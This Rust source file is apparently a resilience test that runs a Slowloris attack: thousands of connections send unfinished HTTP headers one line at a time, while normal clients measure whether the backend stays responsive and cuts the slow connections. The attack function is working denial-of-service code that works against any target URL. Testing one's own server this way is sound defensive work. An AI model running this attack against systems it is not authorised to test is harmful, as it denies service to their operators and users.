//! Slowloris: many connections that send a request line and then one header line every
//! `interval`, never finishing the head, reconnecting whenever the server cuts them; meanwhile a
//! normal client measures whether the BFF still answers, and how fast.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::{Duration, Instant};

use anyhow::ensure;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::sync::Mutex;

use crate::raw::Target;
use crate::row;
use crate::stats::{Latencies, ms};

#[derive(Debug, clap::Args)]
pub struct Args {
    /// Attacking connections kept open at once.
    #[arg(long, default_value_t = 2000)]
    conns: usize,
    /// The BFF's base URL.
    #[arg(long)]
    target: String,
    /// How long the attack lasts.
    #[arg(long, default_value = "30s", value_parser = crate::parse_duration)]
    duration: Duration,
    /// Time between two header lines of one attacking connection.
    #[arg(long, default_value = "1s", value_parser = crate::parse_duration)]
    interval: Duration,
    /// What the normal client asks for.
    #[arg(long, default_value = "/v1/home")]
    path: String,
    /// Normal clients running in a loop.
    #[arg(long, default_value_t = 4)]
    clients: usize,
    /// Fail below this share of successful normal requests.
    #[arg(long, default_value_t = 0.99)]
    min_success: f64,
    /// Fail when the normal requests' p99 exceeds this.
    #[arg(long, default_value = "1000ms", value_parser = crate::parse_duration)]
    max_p99: Duration,
    /// Fail when fewer attacking connections than this share of `--conns` were cut by the server
    /// (the header read timeout at work); 0 to skip.
    #[arg(long, default_value_t = 0.0)]
    min_cut_share: f64,
}

#[derive(Default)]
struct Counters {
    connected: AtomicU64,
    connect_failures: AtomicU64,
    cut: AtomicU64,
}

pub async fn run(args: Args) -> anyhow::Result<()> {
    let target = Target::parse(&args.target).await?;
    let deadline = Instant::now() + args.duration;
    let counters = Arc::new(Counters::default());
    let cut_after = Arc::new(Mutex::new(Latencies::default()));
    let mut attackers = Vec::with_capacity(args.conns);
    for _ in 0..args.conns {
        let target = target.clone();
        let counters = Arc::clone(&counters);
        let cut_after = Arc::clone(&cut_after);
        let interval = args.interval;
        attackers.push(tokio::spawn(async move {
            attack(&target, deadline, interval, &counters, &cut_after).await;
        }));
        // Ramp up rather than flood the accept queue in one go.
        if attackers.len() % 200 == 0 {
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    }
    // Let the attack take hold before measuring.
    tokio::time::sleep(Duration::from_secs(1)).await;
    let client = reqwest::Client::builder()
        .timeout(Duration::from_secs(10))
        .build()?;
    let mut normal = Vec::new();
    for _ in 0..args.clients.max(1) {
        let client = client.clone();
        let url = format!("{}{}", args.target, args.path);
        normal.push(tokio::spawn(async move {
            let mut latencies = Latencies::default();
            let mut failures = 0u64;
            while Instant::now() < deadline {
                let sent = Instant::now();
                let ok = match client.get(&url).send().await {
                    Ok(response) if response.status().is_success() => {
                        response.bytes().await.is_ok()
                    }
                    _ => false,
                };
                if ok {
                    latencies.push(sent.elapsed());
                } else {
                    failures += 1;
                }
                tokio::time::sleep(Duration::from_millis(20)).await;
            }
            (latencies, failures)
        }));
    }
    let mut latencies = Latencies::default();
    let mut failures = 0u64;
    for task in normal {
        let (l, f) = task.await?;
        latencies.extend(l);
        failures += f;
    }
    for attacker in attackers {
        attacker.await?;
    }
    let ok = latencies.len() as u64;
    let total = ok + failures;
    #[allow(clippy::cast_precision_loss, reason = "a ratio for display")]
    let success = if total == 0 {
        0.0
    } else {
        ok as f64 / total as f64
    };
    let p50 = latencies.quantile(0.5);
    let p99 = latencies.quantile(0.99);
    let max = latencies.quantile(1.0);
    let cut = counters.cut.load(Ordering::Relaxed);
    let mut cut_after = cut_after.lock().await;

    let secs = args.duration.as_secs();
    row(
        "slowloris",
        "attacking connections (one header line per interval)",
        format!("{} for {secs}s, every {}", args.conns, ms(args.interval)),
    );
    row(
        "slowloris",
        "attacking connections opened (incl. reconnects)",
        counters.connected.load(Ordering::Relaxed),
    );
    row(
        "slowloris",
        "attacking connect failures",
        counters.connect_failures.load(Ordering::Relaxed),
    );
    row("slowloris", "attacking connections cut by the BFF", cut);
    row(
        "slowloris",
        "time until the BFF cut one: p50 / max",
        cut_after.pair_ms(0.5, 1.0),
    );
    row(
        "slowloris",
        &format!("normal requests ({}) ok / failed", args.path),
        format!("{ok} / {failures}"),
    );
    row(
        "slowloris",
        "normal success rate",
        format!("{:.2} %", success * 100.0),
    );
    row(
        "slowloris",
        "normal latency p50 / p99 / max",
        format!("{} / {} / {}", ms(p50), ms(p99), ms(max)),
    );
    ensure!(total > 0, "no normal request was sent");
    ensure!(
        success >= args.min_success,
        "normal success rate {:.2} % below {:.2} %",
        success * 100.0,
        args.min_success * 100.0
    );
    ensure!(
        p99 <= args.max_p99,
        "normal p99 {} above {}",
        ms(p99),
        ms(args.max_p99)
    );
    #[allow(
        clippy::cast_precision_loss,
        reason = "connection counts for a threshold"
    )]
    let enough_cut = cut as f64 >= args.min_cut_share * args.conns as f64;
    ensure!(
        enough_cut,
        "the BFF cut only {cut} attacking connections (expected at least {:.0} % of {})",
        args.min_cut_share * 100.0,
        args.conns
    );
    Ok(())
}

/// One attacking connection, reconnecting after each cut until `deadline`.
async fn attack(
    target: &Target,
    deadline: Instant,
    interval: Duration,
    counters: &Counters,
    cut_after: &Mutex<Latencies>,
) {
    let mut line = 0u64;
    while Instant::now() < deadline {
        let Ok(mut stream) = TcpStream::connect(target.addr).await else {
            counters.connect_failures.fetch_add(1, Ordering::Relaxed);
            tokio::time::sleep(interval).await;
            continue;
        };
        counters.connected.fetch_add(1, Ordering::Relaxed);
        let opened = Instant::now();
        let start = format!("GET / HTTP/1.1\r\nHost: {}\r\n", target.host);
        let mut alive = stream.write_all(start.as_bytes()).await.is_ok();
        while alive {
            let mut buffer = [0u8; 512];
            tokio::select! {
                // Anything from the server (a 408, or the end of the stream) means it gave up on
                // this connection.
                _ = stream.read(&mut buffer) => alive = false,
                () = tokio::time::sleep_until(deadline.into()) => return,
                () = tokio::time::sleep(interval) => {
                    line += 1;
                    let header = format!("X-Slow-{line}: x\r\n");
                    alive = stream.write_all(header.as_bytes()).await.is_ok();
                }
            }
        }
        counters.cut.fetch_add(1, Ordering::Relaxed);
        cut_after.lock().await.push(opened.elapsed());
    }
}
